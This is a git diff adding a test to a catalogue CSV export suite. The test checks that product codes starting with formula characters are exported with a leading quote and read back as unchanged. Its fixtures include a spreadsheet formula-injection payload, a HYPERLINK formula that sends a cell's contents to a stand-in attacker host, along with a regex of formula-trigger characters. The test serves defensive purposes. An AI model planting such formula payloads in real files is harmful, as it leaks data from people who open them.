@@ -4,6 +4,7 @@
 import { eq, inArray } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { catalogueCsvReportSchema } from '../../contract/admin-catalogue.js';
+import { parseCsv } from '../../server/domain/admin-catalogue/csv-parse.js';
 import { articleSchema } from '../../contract/catalogue.js';
 import { articles, staffActions } from '../../server/db/schema.js';
 import { catalogueVersion } from '../../server/domain/catalogue/version.js';
@@ -166,5 +167,26 @@ describe('the export', () => {
     expect(again).toMatchObject({ rows: lines.length - 1, changes: [], unchanged: lines.length - 1, errors: [] });
     const edited = csv.replace(`${a.sku},1234.05,999.00,3,true`, `${a.sku},1234.05,999.00,4,true`);
     expect((await dryRun(edited)).changes.map((c) => [c.sku, c.before.stock, c.after.stock])).toEqual([[a.sku, 3, 4]]);
+  });
+
+  it('puts a quote before a code a spreadsheet would run, and reads the file back as no change (decision 219)', async () => {
+    // Codes stored before the form refused them: the file must not hand them to a spreadsheet as formulas.
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const codes = [hyperlink, '=1+1', '+39 02 1234', '-2+3', '@SUM(A1:A9)'];
+    const made = [];
+    for (const sku of codes) made.push(await insertSimpleArticle(api.db, { sku }));
+    const csv = await exported();
+    const lines = csv.trimEnd().split('\r\n');
+    expect(lines).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,5,true');
+    for (const sku of codes.slice(1)) expect(lines).toContain(`"'${sku}",25.00,,5,true`);
+    const parsed = parseCsv(csv);
+    expect(parsed.ok).toBe(true);
+    for (const field of parsed.records.flatMap((r) => r.fields)) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+
+    expect(await dryRun(csv)).toMatchObject({ changes: [], errors: [], unchanged: lines.length - 1 });
+    const edited = csv.replace('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,5,true', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,6,true');
+    const applied = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, edited));
+    expect(applied.changes.map((c) => [c.id, c.sku, c.after.stock])).toEqual([[made[0]!.id, hyperlink, 6]]);
+    expect((await rowsOf([made[0]!.id]))[0]!.stockQuantity).toBe(6);
   });
 });
